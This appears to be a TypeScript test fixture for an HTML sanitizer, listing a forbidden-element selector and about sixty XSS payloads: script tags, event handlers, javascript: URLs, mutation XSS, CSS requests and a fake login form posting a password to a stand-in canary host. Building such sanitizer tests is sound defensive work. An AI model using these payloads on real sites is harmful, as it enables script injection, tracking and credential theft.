/** Selector of the elements that must be removed from a document. */
export const forbiddenElements =
  'script, iframe, frame, object, embed, form, input, button, select, textarea, base, link, a, area, audio, video';

/** Marks the page if the script runs. */
const js = 'top.attacked=1';
const canary = 'https://canary.example.org';

/** HTML that tries to run scripts, send data, embed or overlay content, or navigate, each in a different way. */
export const attacks: readonly string[] = [
  // Scripts
  `<script>${js}</script>`,
  `<script defer src="data:text/javascript,${js}"></script>`,
  `<scr<script>ipt>${js}</scr</script>ipt>`,
  `<svg><script>${js}</script></svg>`,
  `<svg><script href="data:text/javascript,${js}" /></svg>`,
  `<noscript><p title="</noscript><script>${js}</script>">`,
  `<template><script>${js}</script></template>`,
  // Event handlers
  `<img src=x onerror="${js}">`,
  `<img src="${canary}/ok.png" onload="${js}">`,
  `<svg onload="${js}">`,
  `<p onmouseover="${js}" onclick="${js}">Press</p>`,
  `<details open ontoggle="${js}"><summary>x</summary></details>`,
  `<input autofocus onfocus="${js}">`,
  `<video onerror="${js}"><source src="${canary}/a.mp4"></video>`,
  `<marquee onstart="${js}">x</marquee>`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${js}"></b>`,
  `<iframe onload="${js}"></iframe>`,
  `<svg><set attributeName="onmouseover" to="${js}"/></svg>`,
  `<button popovertarget="p" onclick="${js}">x</button><div popover id="p" onbeforetoggle="${js}">y</div>`,
  // URLs that run scripts
  `<a href="javascript:${js}">Press</a>`,
  `<area href="javascript:${js}"><map name=m><area shape=default href="javascript:${js}"></map><img usemap=#m src=x>`,
  `<svg><a xlink:href="javascript:${js}"><text y=20>Press</text></a></svg>`,
  `<svg><animate attributeName=href values="javascript:${js}" /><a><text y=20>x</text></a></svg>`,
  `<form action="javascript:${js}"><input type=submit></form>`,
  `<iframe src="javascript:${js}"></iframe>`,
  `<object data="javascript:${js}"></object>`,
  `<embed src="data:text/html;base64,PHNjcmlwdD50b3AuYXR0YWNrZWQ9MTwvc2NyaXB0Pg==">`,
  // Frames, forms, navigation and requests
  `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  `<iframe src="${canary}/login"></iframe>`,
  `<form action="${canary}/steal" method=post><input name=password value=x><button>Login</button></form>`,
  `<a href="${canary}/away" target="_top">Press</a>`,
  `<a href="${canary}/new" target="_blank" ping="${canary}/ping">Press</a>`,
  `<meta http-equiv="refresh" content="0;url=${canary}/refresh">`,
  `<meta http-equiv="Content-Security-Policy" content="img-src 'none'">`,
  `<base href="${canary}/"><img src="picture.png">`,
  `<link rel=stylesheet href="${canary}/a.css"><link rel=prefetch href="${canary}/b"><link rel=dns-prefetch href="${canary}">`,
  `<style>@import url(${canary}/a.css); @font-face{font-family:x;src:url(${canary}/x.woff2)} body{font-family:x}</style>`,
  `<style>body{background:url(http://canary.example.org/plain.png)}</style>`,
  `<p style="width:expression(${js});behavior:url(${canary}/x.htc)">x</p>`,
  `<svg><image href="http://canary.example.org/i.png" /><use href="${canary}/a.svg#x" /></svg>`,
  `<svg><filter id=f><feImage href="${canary}/f.svg" /></filter><rect filter="url(#f)" width=9 height=9 /></svg>`,
  `<svg width=9 height=9><rect width=9 height=9 fill="url(${canary}/f.svg#a)" clip-path="url(${canary}/c.svg#a)" /></svg>`,
  `<svg width=9 height=9><path d="M0 0h9" stroke="u\\72l(${canary}/s.svg#a)" marker-start="url('${canary}/k.svg#a')" /></svg>`,
  `<style>p{clip-path:url(${canary}/c.svg#a);filter:url(${canary}/f.svg#a);shape-outside:url(${canary}/s.png);float:left}</style>`,
  `<style>:root{--u:"${canary}/v.png"} p{mask:image-set(var(--u) 1x)}</style><p style="--w:url(${canary}/w.png)"><b style="mask:var(--w)">x</b></p>`,
  `<p style="background:url('${canary}/b.png' crossorigin(anonymous) referrerpolicy(unsafe-url))">x</p>`,
  `<style>@media all{@supports(color:red){p{&{mask:u\\72l(${canary}/m.png)}}}} @property --p{syntax:"<image>";inherits:true;initial-value:url(${canary}/p.png)} p{mask:var(--p)}</style>`,
  `<img crossorigin=use-credentials src="${canary}/i.png">`,
  // Strings in CSS that would close the style element or attribute once serialized
  `<style>p::after{content:"\\3c/style>\\3cscript>${js}\\3c/script>"}</style><p style="--x:'</style><script>${js}</script>'">x</p>`,
  `<p style="background:url('data:image/png,\\3c/style>\\3cimg src=1 onerror=${js}>')">x</p>`,
  // Mutation XSS: HTML that changes when it is parsed again
  `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js}></style></mglyph></form></mtext></math></form>`,
  `<noembed><img title="</noembed><img src onerror=${js}>"></noembed>`,
  `<p title="\u2028<script>${js}</script>">\u0000<scr\u0000ipt>${js}</script></p>`,
  `<select><template><img src=x onerror=${js}></template></select>`,
  `<?xml-stylesheet href="javascript:${js}"?><svg xmlns="http://www.w3.org/2000/svg" onload="${js}"/>`,
  // DOM clobbering
  `<img name=body><img name=documentElement><img name=head><img name=title>`,
  `<form id=__proto__><input name=attributes><input name=removeChild></form>`,
];
